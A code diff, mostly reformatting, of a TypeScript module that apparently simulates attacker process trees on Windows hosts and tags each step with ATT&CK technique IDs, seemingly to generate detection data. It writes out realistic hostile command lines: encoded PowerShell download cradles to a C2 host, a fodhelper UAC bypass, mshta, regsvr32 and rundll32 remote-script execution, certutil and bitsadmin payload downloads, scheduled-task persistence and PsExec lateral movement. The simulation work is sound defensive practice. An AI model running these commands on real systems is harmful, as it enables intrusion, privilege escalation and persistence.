@@ -6,8 +6,24 @@
  * hang off the same explorer, Outlook, services and WMI hosts as the benign activity around them.
  */
 import { BIN, droppedBinary, renamedBinary, type BinaryDef } from './catalog';
-import { DAY_MS, HOUR_MS, MIN_MS, SYSTEM, dayPlan, type Environment, type HostInfo } from './environment';
-import { Actor, backgroundLabel, type BootState, type HostSim, type ProcNode, type SessionState, type SpawnSpec } from './host_sim';
+import {
+  DAY_MS,
+  HOUR_MS,
+  MIN_MS,
+  SYSTEM,
+  dayPlan,
+  type Environment,
+  type HostInfo,
+} from './environment';
+import {
+  Actor,
+  backgroundLabel,
+  type BootState,
+  type HostSim,
+  type ProcNode,
+  type SessionState,
+  type SpawnSpec,
+} from './host_sim';
 import type { TimelinePart } from './lifecycle';
 import { Rng } from './rng';
 import {
@@ -70,7 +86,10 @@ interface Template {
 
 const PS = BIN.powershell.path;
 
-function user(ctx: Ctx, elevated = false): Pick<SpawnSpec, 'account' | 'session' | 'logon' | 'integrity' | 'elevation'> {
+function user(
+  ctx: Ctx,
+  elevated = false,
+): Pick<SpawnSpec, 'account' | 'session' | 'logon' | 'integrity' | 'elevation'> {
   const s = ctx.session;
   if (!s) return { account: SYSTEM, integrity: 'System' };
   return {
@@ -98,7 +117,10 @@ function serviceParent(ctx: Ctx): ProcNode {
 
 function encodedStager(a: Actor, ctx: Ctx): { cmd: string; script: string } {
   const rng = a.rng;
-  const script = downloadCradle(rng, `${ctx.shared.c2}/${rng.pick(['login/process.php', 'admin/get.php', 'news.php', 'api/v2/update', 'jquery-3.3.1.min.js'])}`);
+  const script = downloadCradle(
+    rng,
+    `${ctx.shared.c2}/${rng.pick(['login/process.php', 'admin/get.php', 'news.php', 'api/v2/update', 'jquery-3.3.1.min.js'])}`,
+  );
   const enc = encodePowerShell(script);
   const style = rng.int(0, 4);
   const cmd = [
@@ -120,32 +142,95 @@ function foothold(a: Actor, ctx: Ctx, kind: 'cmd' | 'powershell'): ProcNode {
   const s = ctx.session;
   if (!s?.explorer) {
     // Server victims: the operator already has a service-context shell.
-    return a.attack(serviceParent(ctx), { bin: BIN.cmd, cmd: 'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\Temp\\svc.bat', account: SYSTEM, integrity: 'System' }, 'T1569.002', 'service executes attacker batch file');
+    return a.attack(
+      serviceParent(ctx),
+      {
+        bin: BIN.cmd,
+        cmd: 'C:\\Windows\\system32\\cmd.exe /c C:\\Windows\\Temp\\svc.bat',
+        account: SYSTEM,
+        integrity: 'System',
+      },
+      'T1569.002',
+      'service executes attacker batch file',
+    );
   }
   const lure = rng.int(0, 2);
   if (lure === 0) {
     const implantPath = `${profile(ctx)}\\Downloads\\${docName(rng, 'pdf').replace(/\.pdf$/, '')}.exe`;
-    const implant = a.attack(s.explorer, { ...user(ctx), bin: droppedBinary(implantPath), cmd: `"${implantPath}" `, hashSalt: ctx.plan.id, cwd: `${profile(ctx)}\\Downloads\\` }, 'T1204.002', 'user executed a downloaded implant masquerading as a document');
+    const implant = a.attack(
+      s.explorer,
+      {
+        ...user(ctx),
+        bin: droppedBinary(implantPath),
+        cmd: `"${implantPath}" `,
+        hashSalt: ctx.plan.id,
+        cwd: `${profile(ctx)}\\Downloads\\`,
+      },
+      'T1204.002',
+      'user executed a downloaded implant masquerading as a document',
+    );
     a.wait(3000, 40_000);
     return kind === 'cmd'
-      ? a.attack(implant, { bin: BIN.cmd, cmd: 'C:\\Windows\\system32\\cmd.exe', conhost: true }, 'T1059.003', 'implant spawns an interactive command shell')
-      : a.attack(implant, { bin: BIN.powershell, cmd: 'powershell.exe -nop -w hidden', conhost: true }, 'T1059.001', 'implant spawns an interactive PowerShell');
+      ? a.attack(
+          implant,
+          { bin: BIN.cmd, cmd: 'C:\\Windows\\system32\\cmd.exe', conhost: true },
+          'T1059.003',
+          'implant spawns an interactive command shell',
+        )
+      : a.attack(
+          implant,
+          { bin: BIN.powershell, cmd: 'powershell.exe -nop -w hidden', conhost: true },
+          'T1059.001',
+          'implant spawns an interactive PowerShell',
+        );
   }
   if (lure === 1) {
-    const cmd = a.attack(s.explorer, { ...user(ctx), bin: BIN.cmd, cmd: `"C:\\Windows\\System32\\cmd.exe" /c start /min powershell -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"` }, ['T1204.002', 'T1059.003'], 'malicious shortcut runs cmd /c start powershell');
+    const cmd = a.attack(
+      s.explorer,
+      {
+        ...user(ctx),
+        bin: BIN.cmd,
+        cmd: `"C:\\Windows\\System32\\cmd.exe" /c start /min powershell -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"`,
+      },
+      ['T1204.002', 'T1059.003'],
+      'malicious shortcut runs cmd /c start powershell',
+    );
     a.wait(200, 1500);
-    const ps = a.attack(cmd, { bin: BIN.powershell, cmd: `powershell  -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"` }, ['T1059.001', 'T1105'], 'PowerShell download cradle from shortcut');
+    const ps = a.attack(
+      cmd,
+      {
+        bin: BIN.powershell,
+        cmd: `powershell  -w hidden -nop -c "${downloadCradle(rng, `${ctx.shared.c2}/${rng.chars(6)}`)}"`,
+      },
+      ['T1059.001', 'T1105'],
+      'PowerShell download cradle from shortcut',
+    );
     if (kind === 'powershell') return ps;
     a.wait(5000, 60_000);
-    return a.attack(ps, { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" ' }, 'T1059.003', 'stager opens a command shell');
+    return a.attack(
+      ps,
+      { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" ' },
+      'T1059.003',
+      'stager opens a command shell',
+    );
   }
   const doc = officeLure(a, ctx);
   a.wait(1500, 12_000);
   const { cmd } = encodedStager(a, ctx);
-  const ps = a.attack(doc, { bin: BIN.powershell, cmd }, ['T1059.001', 'T1027'], 'Office macro launches encoded PowerShell');
+  const ps = a.attack(
+    doc,
+    { bin: BIN.powershell, cmd },
+    ['T1059.001', 'T1027'],
+    'Office macro launches encoded PowerShell',
+  );
   if (kind === 'powershell') return ps;
   a.wait(10_000, 90_000);
-  return a.attack(ps, { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" /Q' }, 'T1059.003', 'stager opens a command shell');
+  return a.attack(
+    ps,
+    { bin: BIN.cmd, cmd: '"C:\\Windows\\system32\\cmd.exe" /Q' },
+    'T1059.003',
+    'stager opens a command shell',
+  );
 }
 
 /** A phishing document opened from Outlook (or from Downloads when Outlook is not running). */
@@ -159,9 +244,21 @@ function officeLure(a: Actor, ctx: Ctx): ProcNode {
     [BIN.excel, 'xls'],
   ]);
   const outlook = s.apps.get('outlook');
-  const file = outlook ? outlookCachePath(rng, profile(ctx), docName(rng, ext)) : `${profile(ctx)}\\Downloads\\${docName(rng, ext)}`;
+  const file = outlook
+    ? outlookCachePath(rng, profile(ctx), docName(rng, ext))
+    : `${profile(ctx)}\\Downloads\\${docName(rng, ext)}`;
   const parent = outlook ?? (s.explorer as ProcNode);
-  return a.attack(parent, { ...user(ctx), bin, cmd: `"${bin.path}" /n "${file}" /o ""`, cwd: `${profile(ctx)}\\Documents\\` }, 'T1566.001', `phishing attachment opened in ${bin.name}`);
+  return a.attack(
+    parent,
+    {
+      ...user(ctx),
+      bin,
+      cmd: `"${bin.path}" /n "${file}" /o ""`,
+      cwd: `${profile(ctx)}\\Documents\\`,
+    },
+    'T1566.001',
+    `phishing attachment opened in ${bin.name}`,
+  );
 }
 
 /** Escalate on a workstation with the fodhelper UAC bypass (ms-settings handler hijack). */
@@ -170,16 +267,53 @@ function uacBypass(a: Actor, ctx: Ctx, shell: ProcNode): ProcNode {
   if (shell.integrity === 'High' || shell.integrity === 'System') return shell;
   const { cmd: payload } = encodedStager(a, ctx);
   a.wait(5000, 60_000);
-  a.attack(shell, { bin: BIN.reg, cmd: `reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "${payload.replace(/"/g, '\\"')}" /f` }, ['T1548.002', 'T1112'], 'UAC bypass: hijack ms-settings handler');
+  a.attack(
+    shell,
+    {
+      bin: BIN.reg,
+      cmd: `reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "${payload.replace(/"/g, '\\"')}" /f`,
+    },
+    ['T1548.002', 'T1112'],
+    'UAC bypass: hijack ms-settings handler',
+  );
   a.wait(200, 2000);
-  a.attack(shell, { bin: BIN.reg, cmd: 'reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /d "" /f' }, ['T1548.002', 'T1112'], 'UAC bypass: DelegateExecute');
+  a.attack(
+    shell,
+    {
+      bin: BIN.reg,
+      cmd: 'reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /d "" /f',
+    },
+    ['T1548.002', 'T1112'],
+    'UAC bypass: DelegateExecute',
+  );
   a.wait(300, 3000);
-  const fod = a.attack(shell, { bin: BIN.fodhelper, cmd: 'C:\\Windows\\system32\\fodhelper.exe', integrity: 'High', elevation: 'full', conhost: false }, 'T1548.002', 'fodhelper auto-elevation runs hijacked handler');
+  const fod = a.attack(
+    shell,
+    {
+      bin: BIN.fodhelper,
+      cmd: 'C:\\Windows\\system32\\fodhelper.exe',
+      integrity: 'High',
+      elevation: 'full',
+      conhost: false,
+    },
+    'T1548.002',
+    'fodhelper auto-elevation runs hijacked handler',
+  );
   a.wait(100, 900);
-  const high = a.attack(fod, { bin: BIN.powershell, cmd: payload, integrity: 'High', elevation: 'full' }, ['T1548.002', 'T1059.001'], 'elevated stager from UAC bypass');
+  const high = a.attack(
+    fod,
+    { bin: BIN.powershell, cmd: payload, integrity: 'High', elevation: 'full' },
+    ['T1548.002', 'T1059.001'],
+    'elevated stager from UAC bypass',
+  );
   if (rng.chance(0.5)) {
     a.wait(2000, 20_000);
-    a.attack(high, { bin: BIN.reg, cmd: 'reg.exe delete HKCU\\Software\\Classes\\ms-settings /f' }, 'T1070', 'clean up UAC bypass key');
+    a.attack(
+      high,
+      { bin: BIN.reg, cmd: 'reg.exe delete HKCU\\Software\\Classes\\ms-settings /f' },
+      'T1070',
+      'clean up UAC bypass key',
+    );
   }
   return high;
 }
@@ -193,7 +327,12 @@ function discoveryBurst(a: Actor, ctx: Ctx, shell: ProcNode, min: number, max: n
     [BIN.whoami, 'whoami', 'T1033', null],
     [BIN.net, 'net  user /domain', 'T1087.002', 'user /domain'],
     [BIN.net, 'net  group "Domain Admins" /domain', 'T1069.002', 'group "Domain Admins" /domain'],
-    [BIN.net, 'net  group "Enterprise Admins" /domain', 'T1069.002', 'group "Enterprise Admins" /domain'],
+    [
+      BIN.net,
+      'net  group "Enterprise Admins" /domain',
+      'T1069.002',
+      'group "Enterprise Admins" /domain',
+    ],
     [BIN.net, 'net  localgroup administrators', 'T1069.001', 'localgroup administrators'],
     [BIN.net, 'net  user', 'T1087.001', 'user'],
     [BIN.net, `net  view \\\\${dc?.short ?? 'DC01'}`, 'T1135', `view \\\\${dc?.short ?? 'DC01'}`],
@@ -214,7 +353,12 @@ function discoveryBurst(a: Actor, ctx: Ctx, shell: ProcNode, min: number, max: n
     const [bin, cmd, tech, netArgs] = cmds[i] as [BinaryDef, string, string, string | null];
     a.wait(800, viaPs ? 8000 : 25_000);
     const full = viaPs ? `"${bin.path}" ${cmd.slice(cmd.indexOf('  ') + 2)}`.trimEnd() : cmd;
-    const p = a.attack(shell, { bin, cmd: full }, tech, `discovery: ${cmd.replace(/\s+/g, ' ').trim()}`);
+    const p = a.attack(
+      shell,
+      { bin, cmd: full },
+      tech,
+      `discovery: ${cmd.replace(/\s+/g, ' ').trim()}`,
+    );
     if (netArgs) a.child(p, { bin: BIN.net1, cmd: `C:\\Windows\\system32\\net1  ${netArgs}` });
   }
 }
@@ -236,12 +380,37 @@ function wmiProvider(ctx: Ctx, t: number): ProcNode {
   return node;
 }
 
-function dropAndRun(a: Actor, ctx: Ctx, shell: ProcNode, payloadPath: string, reason: string): ProcNode {
+function dropAndRun(
+  a: Actor,
+  ctx: Ctx,
+  shell: ProcNode,
+  payloadPath: string,
+  reason: string,
+): ProcNode {
   a.wait(2000, 30_000);
-  const node = a.attack(shell, { bin: droppedBinary(payloadPath), cmd: `"${payloadPath}" ${a.rng.pick(['', '-s', '/quiet', `--id ${a.rng.hex(8)}`])}`.trimEnd(), hashSalt: ctx.plan.id, conhost: false }, 'T1204.002', reason);
+  const node = a.attack(
+    shell,
+    {
+      bin: droppedBinary(payloadPath),
+      cmd: `"${payloadPath}" ${a.rng.pick(['', '-s', '/quiet', `--id ${a.rng.hex(8)}`])}`.trimEnd(),
+      hashSalt: ctx.plan.id,
+      conhost: false,
+    },
+    'T1204.002',
+    reason,
+  );
   if (a.rng.chance(0.6)) {
     a.wait(3000, 30_000);
-    const c = a.attack(node, { bin: BIN.cmd, cmd: `C:\\Windows\\system32\\cmd.exe /c whoami & hostname & ipconfig`, conhost: true }, ['T1059.003', 'T1033'], 'payload runs first-contact discovery');
+    const c = a.attack(
+      node,
+      {
+        bin: BIN.cmd,
+        cmd: `C:\\Windows\\system32\\cmd.exe /c whoami & hostname & ipconfig`,
+        conhost: true,
+      },
+      ['T1059.003', 'T1033'],
+      'payload runs first-contact discovery',
+    );
     a.child(c, { bin: BIN.whoami, cmd: 'whoami ' });
     a.child(c, { bin: BIN.hostname, cmd: 'hostname ' });
     a.child(c, { bin: BIN.ipconfig, cmd: 'ipconfig ' });
@@ -260,8 +429,17 @@ function runRemoteChildren(a: Actor, ctx: Ctx, shell: ProcNode): void {
   ]);
   for (const [bin, cmd] of ctx.shared.remoteChildren) {
     a.wait(15, 400);
-    const p = a.attack(shell, { bin, cmd }, tech.get(bin) ?? 'T1059.003', `remote command: ${cmd.replace(/\s+/g, ' ').trim()}`);
-    if (bin === BIN.net) a.child(p, { bin: BIN.net1, cmd: `C:\\Windows\\system32\\net1  ${cmd.slice(cmd.indexOf('  ') + 2)}` });
+    const p = a.attack(
+      shell,
+      { bin, cmd },
+      tech.get(bin) ?? 'T1059.003',
+      `remote command: ${cmd.replace(/\s+/g, ' ').trim()}`,
+    );
+    if (bin === BIN.net)
+      a.child(p, {
+        bin: BIN.net1,
+        cmd: `C:\\Windows\\system32\\net1  ${cmd.slice(cmd.indexOf('  ') + 2)}`,
+      });
   }
 }
 
@@ -281,11 +459,26 @@ const TEMPLATES: Template[] = [
       const { cmd } = encodedStager(a, ctx);
       let ps: ProcNode;
       if (rng.chance(0.5)) {
-        const c = a.attack(doc, { bin: BIN.cmd, cmd: `cmd.exe /c ${cmd.replace(/^"[^"]+"/, 'powershell.exe')}` }, 'T1059.003', 'Office macro spawns cmd.exe');
+        const c = a.attack(
+          doc,
+          { bin: BIN.cmd, cmd: `cmd.exe /c ${cmd.replace(/^"[^"]+"/, 'powershell.exe')}` },
+          'T1059.003',
+          'Office macro spawns cmd.exe',
+        );
         a.wait(20, 300);
-        ps = a.attack(c, { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') }, ['T1059.001', 'T1027'], 'encoded PowerShell stager');
+        ps = a.attack(
+          c,
+          { bin: BIN.powershell, cmd: cmd.replace(/^"[^"]+"/, 'powershell.exe') },
+          ['T1059.001', 'T1027'],
+          'encoded PowerShell stager',
+        );
       } else {
-        ps = a.attack(doc, { bin: BIN.powershell, cmd }, ['T1059.001', 'T1027'], 'Office macro spawns encoded PowerShell');
+        ps = a.attack(
+          doc,
+          { bin: BIN.powershell, cmd },
+          ['T1059.001', 'T1027'],
+          'Office macro spawns encoded PowerShell',
+        );
       }
       discoveryBurst(a, ctx, ps, 1, 3);
     },
@@ -297,7 +490,11 @@ const TEMPLATES: Template[] = [
     run: (a, ctx) => {
       const rng = a.rng;
       const s = ctx.session as SessionState;
-      const parent = rng.pick([s.explorer, s.apps.get('outlook') ?? s.explorer, s.apps.get('browser') ?? s.explorer]) as ProcNode;
+      const parent = rng.pick([
+        s.explorer,
+        s.apps.get('outlook') ?? s.explorer,
+        s.apps.get('browser') ?? s.explorer,
+      ]) as ProcNode;
       const { cmd: stager } = encodedStager(a, ctx);
       const variant = rng.int(0, 2);
       const cmd =
@@ -306,9 +503,19 @@ const TEMPLATES: Template[] = [
           : variant === 1
             ? `mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""${stager.replace(/"/g, '""')}"", 0:close")`
             : `mshta.exe javascript:a=(GetObject('script:${c2Url(rng, 'sct')}')).Exec();close();`;
-      const m = a.attack(parent, { ...user(ctx), bin: BIN.mshta, cmd }, 'T1218.005', 'mshta runs remote/inline script');
+      const m = a.attack(
+        parent,
+        { ...user(ctx), bin: BIN.mshta, cmd },
+        'T1218.005',
+        'mshta runs remote/inline script',
+      );
       a.wait(300, 4000);
-      const ps = a.attack(m, { bin: BIN.powershell, cmd: stager }, ['T1059.001', 'T1027'], 'mshta launches encoded PowerShell');
+      const ps = a.attack(
+        m,
+        { bin: BIN.powershell, cmd: stager },
+        ['T1059.001', 'T1027'],
+        'mshta launches encoded PowerShell',
+      );
       if (rng.chance(0.6)) discoveryBurst(a, ctx, ps, 1, 3);
     },
   },
@@ -321,10 +528,25 @@ const TEMPLATES: Template[] = [
       const shell = foothold(a, ctx, 'cmd');
       a.wait(3000, 60_000);
       const url = c2Url(rng, rng.pick(['sct', 'txt', 'jpg']));
-      const r = a.attack(shell, { bin: BIN.regsvr32, cmd: rng.chance(0.5) ? `regsvr32  /s /n /u /i:${url} scrobj.dll` : `"C:\\Windows\\system32\\regsvr32.exe" /s /n /u /i:${url} scrobj.dll` }, 'T1218.010', 'regsvr32 scriptlet (squiblydoo)');
+      const r = a.attack(
+        shell,
+        {
+          bin: BIN.regsvr32,
+          cmd: rng.chance(0.5)
+            ? `regsvr32  /s /n /u /i:${url} scrobj.dll`
+            : `"C:\\Windows\\system32\\regsvr32.exe" /s /n /u /i:${url} scrobj.dll`,
+        },
+        'T1218.010',
+        'regsvr32 scriptlet (squiblydoo)',
+      );
       a.wait(200, 1500);
       const { cmd } = encodedStager(a, ctx);
-      a.attack(r, { bin: BIN.powershell, cmd }, ['T1059.001', 'T1027'], 'scriptlet launches PowerShell stager');
+      a.attack(
+        r,
+        { bin: BIN.powershell, cmd },
+        ['T1059.001', 'T1027'],
+        'scriptlet launches PowerShell stager',
+      );
     },
   },
   {
@@ -338,10 +560,20 @@ const TEMPLATES: Template[] = [
       const cmd = rng.chance(0.5)
         ? `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:${url}")`
         : `"C:\\Windows\\system32\\rundll32.exe" javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();h=new%20ActiveXObject("WinHttp.WinHttpRequest.5.1");h.Open("GET","${url}",false);h.Send();eval(h.ResponseText);`;
-      const r = a.attack(s.explorer as ProcNode, { ...user(ctx), bin: BIN.rundll32, cmd }, ['T1218.011', 'T1059.007'], 'rundll32 mshtml RunHTMLApplication JavaScript');
+      const r = a.attack(
+        s.explorer as ProcNode,
+        { ...user(ctx), bin: BIN.rundll32, cmd },
+        ['T1218.011', 'T1059.007'],
+        'rundll32 mshtml RunHTMLApplication JavaScript',
+      );
       a.wait(400, 3000);
       const { cmd: stager } = encodedStager(a, ctx);
-      const ps = a.attack(r, { bin: BIN.powershell, cmd: stager }, ['T1059.001', 'T1027'], 'JavaScript launches PowerShell');
+      const ps = a.attack(
+        r,
+        { bin: BIN.powershell, cmd: stager },
+        ['T1059.001', 'T1027'],
+        'JavaScript launches PowerShell',
+      );
       if (rng.chance(0.5)) discoveryBurst(a, ctx, ps, 1, 2);
     },
   },
@@ -357,18 +589,52 @@ const TEMPLATES: Template[] = [
       a.wait(5000, 90_000);
       const variant = rng.int(0, 2);
       if (variant === 0) {
-        a.attack(shell, { bin: BIN.certutil, cmd: `certutil.exe -urlcache -split -f ${c2Url(rng, 'exe')} ${out}` }, 'T1105', 'certutil downloads payload');
+        a.attack(
+          shell,
+          {
+            bin: BIN.certutil,
+            cmd: `certutil.exe -urlcache -split -f ${c2Url(rng, 'exe')} ${out}`,
+          },
+          'T1105',
+          'certutil downloads payload',
+        );
       } else if (variant === 1) {
         const b64 = `${dir}\\${rng.chars(6)}.txt`;
-        a.attack(shell, { bin: BIN.certutil, cmd: `certutil  -urlcache -f ${c2Url(rng, 'txt')} ${b64}` }, 'T1105', 'certutil downloads encoded payload');
+        a.attack(
+          shell,
+          { bin: BIN.certutil, cmd: `certutil  -urlcache -f ${c2Url(rng, 'txt')} ${b64}` },
+          'T1105',
+          'certutil downloads encoded payload',
+        );
         a.wait(1000, 10_000);
-        a.attack(shell, { bin: BIN.certutil, cmd: `certutil  -decode ${b64} ${out}` }, 'T1140', 'certutil decodes payload');
+        a.attack(
+          shell,
+          { bin: BIN.certutil, cmd: `certutil  -decode ${b64} ${out}` },
+          'T1140',
+          'certutil decodes payload',
+        );
       } else {
         // Renamed certutil: the image name no longer says certutil, the PE metadata still does.
         const copyPath = `${dir}\\${rng.pick(['cu.exe', 'ctl.exe', 'winupd.exe', 'msutil.exe'])}`;
-        a.attack(shell, { bin: BIN.copyCmd, cmd: `xcopy  C:\\Windows\\System32\\certutil.exe ${copyPath}* /Y /Q` }, 'T1036.003', 'copy certutil under another name');
+        a.attack(
+          shell,
+          {
+            bin: BIN.copyCmd,
+            cmd: `xcopy  C:\\Windows\\System32\\certutil.exe ${copyPath}* /Y /Q`,
+          },
+          'T1036.003',
+          'copy certutil under another name',
+        );
         a.wait(1000, 8000);
-        a.attack(shell, { bin: renamedBinary(BIN.certutil, copyPath), cmd: `${copyPath} -urlcache -split -f ${c2Url(rng, 'exe')} ${out}` }, ['T1105', 'T1036.003'], 'renamed certutil downloads payload');
+        a.attack(
+          shell,
+          {
+            bin: renamedBinary(BIN.certutil, copyPath),
+            cmd: `${copyPath} -urlcache -split -f ${c2Url(rng, 'exe')} ${out}`,
+          },
+          ['T1105', 'T1036.003'],
+          'renamed certutil downloads payload',
+        );
       }
       dropAndRun(a, ctx, shell, out, 'downloaded payload executed');
     },
@@ -385,18 +651,57 @@ const TEMPLATES: Template[] = [
       const ps1 = `${dir}\\${rng.pick(['update', 'config', 'run', rng.chars(5)])}.ps1`;
       a.wait(5000, 60_000);
       if (rng.chance(0.6)) {
-        a.attack(shell, { bin: BIN.bitsadmin, cmd: `bitsadmin  /transfer ${job} /download /priority ${rng.pick(['foreground', 'high', 'normal'])} ${c2Url(rng, 'ps1')} ${ps1}` }, ['T1197', 'T1105'], 'bitsadmin transfer downloads script');
+        a.attack(
+          shell,
+          {
+            bin: BIN.bitsadmin,
+            cmd: `bitsadmin  /transfer ${job} /download /priority ${rng.pick(['foreground', 'high', 'normal'])} ${c2Url(rng, 'ps1')} ${ps1}`,
+          },
+          ['T1197', 'T1105'],
+          'bitsadmin transfer downloads script',
+        );
       } else {
-        a.attack(shell, { bin: BIN.bitsadmin, cmd: `bitsadmin  /create ${job}` }, 'T1197', 'bitsadmin create job');
+        a.attack(
+          shell,
+          { bin: BIN.bitsadmin, cmd: `bitsadmin  /create ${job}` },
+          'T1197',
+          'bitsadmin create job',
+        );
         a.wait(300, 3000);
-        a.attack(shell, { bin: BIN.bitsadmin, cmd: `bitsadmin  /addfile ${job} ${c2Url(rng, 'ps1')} ${ps1}` }, ['T1197', 'T1105'], 'bitsadmin add remote file');
+        a.attack(
+          shell,
+          { bin: BIN.bitsadmin, cmd: `bitsadmin  /addfile ${job} ${c2Url(rng, 'ps1')} ${ps1}` },
+          ['T1197', 'T1105'],
+          'bitsadmin add remote file',
+        );
         a.wait(300, 3000);
-        a.attack(shell, { bin: BIN.bitsadmin, cmd: `bitsadmin  /SetNotifyCmdLine ${job} C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "-ep bypass -w hidden -file ${ps1}"` }, 'T1197', 'bitsadmin notify command for persistence');
+        a.attack(
+          shell,
+          {
+            bin: BIN.bitsadmin,
+            cmd: `bitsadmin  /SetNotifyCmdLine ${job} C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "-ep bypass -w hidden -file ${ps1}"`,
+          },
+          'T1197',
+          'bitsadmin notify command for persistence',
+        );
         a.wait(300, 3000);
-        a.attack(shell, { bin: BIN.bitsadmin, cmd: `bitsadmin  /resume ${job}` }, 'T1197', 'bitsadmin resume job');
+        a.attack(
+          shell,
+          { bin: BIN.bitsadmin, cmd: `bitsadmin  /resume ${job}` },
+          'T1197',
+          'bitsadmin resume job',
+        );
       }
       a.wait(2000, 20_000);
-      a.attack(shell, { bin: BIN.powershell, cmd: `powershell  -ExecutionPolicy Bypass -WindowStyle Hidden -File ${ps1}` }, 'T1059.001', 'run downloaded PowerShell script');
+      a.attack(
+        shell,
+        {
+          bin: BIN.powershell,
+          cmd: `powershell  -ExecutionPolicy Bypass -WindowStyle Hidden -File ${ps1}`,
+        },
+        'T1059.001',
+        'run downloaded PowerShell script',
+      );
     },
   },
   {
@@ -408,11 +713,27 @@ const TEMPLATES: Template[] = [
       a.wait(5000, 60_000);
       const { cmd } = encodedStager(a, ctx);
       const inner = cmd.replace(/^"[^"]+"/, 'powershell.exe');
-      const wmicCmd = shell.bin === BIN.powershell ? `"C:\\Windows\\System32\\Wbem\\WMIC.exe" process call create "${inner}"` : `wmic  process call create "${inner}"`;
+      const wmicCmd =
+        shell.bin === BIN.powershell
+          ? `"C:\\Windows\\System32\\Wbem\\WMIC.exe" process call create "${inner}"`
+          : `wmic  process call create "${inner}"`;
       a.attack(shell, { bin: BIN.wmic, cmd: wmicCmd }, 'T1047', 'wmic process call create');
       a.wait(150, 900);
       const prov = wmiProvider(ctx, a.t);
-      a.attack(prov, { bin: BIN.powershell, cmd: inner, account: ctx.session?.account, session: 0, logon: ctx.session?.logon, integrity: shell.integrity, elevation: shell.elevation }, ['T1047', 'T1059.001', 'T1027'], 'WMI provider host starts the created process');
+      a.attack(
+        prov,
+        {
+          bin: BIN.powershell,
+          cmd: inner,
+          account: ctx.session?.account,
+          session: 0,
+          logon: ctx.session?.logon,
+          integrity: shell.integrity,
+          elevation: shell.elevation,
+        },
+        ['T1047', 'T1059.001', 'T1027'],
+        'WMI provider host starts the created process',
+      );
     },
   },
   {
@@ -435,7 +756,12 @@ const TEMPLATES: Template[] = [
           : sched === 1
             ? `"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC MINUTE /MO ${every} /TN "${name}" /TR "${action.replace(/"/g, '\\"')}" /RL HIGHEST`
             : `schtasks.exe /create /sc daily /st ${pad(dailyAt.h)}:${pad(dailyAt.m)} /tn "${name}" /tr "${action.replace(/"/g, '\\"')}" /ru SYSTEM`;
-      a.attack(shell, { bin: BIN.schtasks, cmd: create }, 'T1053.005', 'scheduled task created for persistence');
+      a.attack(
+        shell,
+        { bin: BIN.schtasks, cmd: create },
+        'T1053.005',
+        'scheduled task created for persistence',
+      );
       const svc = boot(ctx).svc.get('Schedule');
       if (!svc) return;
       const runs = sched === 2 ? 1 : rng.int(1, 3);
@@ -448,7 +774,19 @@ const TEMPLATES: Template[] = [
       }
       for (let i = 0; i < runs; i++) {
         a.t = t;
-        a.attack(svc, { bin: BIN.powershell, cmd: action, account: SYSTEM, integrity: 'System', session: 0, elevation: 'default' }, ['T1053.005', 'T1059.001', 'T1027'], 'scheduled task fires encoded PowerShell');
+        a.attack(
+          svc,
+          {
+            bin: BIN.powershell,
+            cmd: action,
+            account: SYSTEM,
+            integrity: 'System',
+            session: 0,
+            elevation: 'default',
+          },
+          ['T1053.005', 'T1059.001', 'T1027'],
+          'scheduled task fires encoded PowerShell',
+        );
         t += every * MIN_MS + rng.int(0, 5000);
       }
     },
@@ -467,24 +805,66 @@ const TEMPLATES: Template[] = [
       a.t = Math.max(a.t + 1000, remoteAt - rng.int(800, 2500));
       const tool = ctx.shared.tool;
       const bin = tool === BIN.psexec.path ? BIN.psexec : renamedBinary(BIN.psexec, tool);
-      a.attack(shell, { bin, cmd: `${tool} \\\\${target.short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}` }, ['T1021.002', 'T1569.002'], `PsExec to ${target.short}`);
+      a.attack(
+        shell,
+        {
+          bin,
+          cmd: `${tool} \\\\${target.short.toLowerCase()} -accepteula -s ${ctx.shared.remoteCmd}`,
+        },
+        ['T1021.002', 'T1569.002'],
+        `PsExec to ${target.short}`,
+      );
     },
     remote: (a, ctx) => {
       const services = serviceParent(ctx);
-      const svc = a.attack(services, { bin: BIN.psexesvc, cmd: 'C:\\Windows\\PSEXESVC.exe', account: SYSTEM, integrity: 'System' }, ['T1569.002', 'T1570'], 'PsExec service installed and started');
+      const svc = a.attack(
+        services,
+        {
+          bin: BIN.psexesvc,
+          cmd: 'C:\\Windows\\PSEXESVC.exe',
+          account: SYSTEM,
+          integrity: 'System',
+        },
+        ['T1569.002', 'T1570'],
+        'PsExec service installed and started',
+      );
       a.wait(100, 800);
-      const c = a.attack(svc, { bin: BIN.cmd, cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'), conhost: true }, ['T1021.002', 'T1059.003'], 'remote command via PsExec');
+      const c = a.attack(
+        svc,
+        {
+          bin: BIN.cmd,
+          cmd: ctx.shared.remoteCmd.replace(/^cmd\.exe/, 'C:\\Windows\\system32\\cmd.exe'),
+          conhost: true,
+        },
+        ['T1021.002', 'T1059.003'],
+        'remote command via PsExec',
+      );
       runRemoteChildren(a, ctx, c);
       a.wait(5000, 120_000);
       if (ctx.shared.variant === 0) {
